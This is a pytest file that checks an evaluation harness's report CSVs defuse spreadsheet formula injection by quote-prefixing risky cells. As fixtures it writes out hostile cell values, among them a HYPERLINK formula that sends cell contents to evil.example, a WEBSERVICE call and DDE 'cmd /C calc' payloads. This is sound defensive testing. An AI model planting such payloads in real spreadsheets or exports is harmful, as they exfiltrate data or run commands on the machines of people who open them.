"""Report CSVs never carry a live spreadsheet formula (review finding 6): suite names, model labels and
sources come from result files and published tables anyone can write, and `=HYPERLINK(...)` or
`+cmd|' /C calc'!A0` in a cell runs when the CSV is opened in a spreadsheet."""

from __future__ import annotations

import csv
import subprocess
import sys
from pathlib import Path

import pytest

from harness.report.fmt import csv_safe

ROOT = Path(__file__).resolve().parents[2]
SUITES = [("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "targeted", "coding"),
          ("-cmd|' /C calc'!A0", "targeted", "agentic"), ("+cmd|' /C calc'!A0", "targeted", "coding"),
          ("@SUM(1+1)", "untargeted", "math"), ("\tTAB", "untargeted", "factual"), ("plain", "untargeted", "math")]


def hostile_scores(path: Path) -> None:
    with open(path, "w", newline="", encoding="utf-8") as f:
        writer = csv.writer(f)
        writer.writerow(["model", "suite", "category", "capability", "score", "n_items", "source", "setting"])
        for k, (suite, category, capability) in enumerate(SUITES):
            for model, base in (("=1+1", 50), ("-2+3", 60)):
                writer.writerow([model, suite, category, capability, base + k * (2 if category == "targeted" else 1),
                                 200, '=WEBSERVICE("http://evil")', "@setting"])


def test_no_csv_in_a_report_starts_a_cell_with_a_formula(tmp_path):
    scores = tmp_path / "hostile.csv"
    hostile_scores(scores)
    out = tmp_path / "report"
    done = subprocess.run([sys.executable, "-m", "harness", "report", "--before", "=1+1", "--after", "-2+3",
                           "--scores", str(scores), "--out", str(out)], cwd=ROOT, capture_output=True, text=True,
                          timeout=300)
    assert done.returncode == 0, done.stderr
    files = sorted(out.rglob("*.csv"))
    assert {p.name for p in files} >= {"sources.csv", "slopes.csv", "forest.csv"}
    cells = []
    for path in files:
        with open(path, newline="", encoding="utf-8") as f:
            cells += [(path.name, cell) for row in csv.reader(f) for cell in row]
    live = [(name, cell) for name, cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")
            and not _number(cell)]
    assert live == []
    assert ("sources.csv", "'=WEBSERVICE(\"http://evil\")") in cells  # kept, defused, readable
    assert ("slopes.csv", "'@SUM(1+1)") in cells and ("slopes.csv", "plain") in cells


def _number(cell: str) -> bool:
    try:
        float(cell)
        return True
    except ValueError:
        return False


@pytest.mark.parametrize("value, expected", [
    ("=1+1", "'=1+1"), ("+cmd", "'+cmd"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"),
    ("\rx", "'\rx"), ("-0.5", "-0.5"), ("+3", "+3"), ("1e-3", "1e-3"), (-0.5, -0.5), (None, None), ("a=b", "a=b"),
])
def test_csv_safe_defuses_formulas_and_leaves_numbers(value, expected):
    assert csv_safe(value) == expected
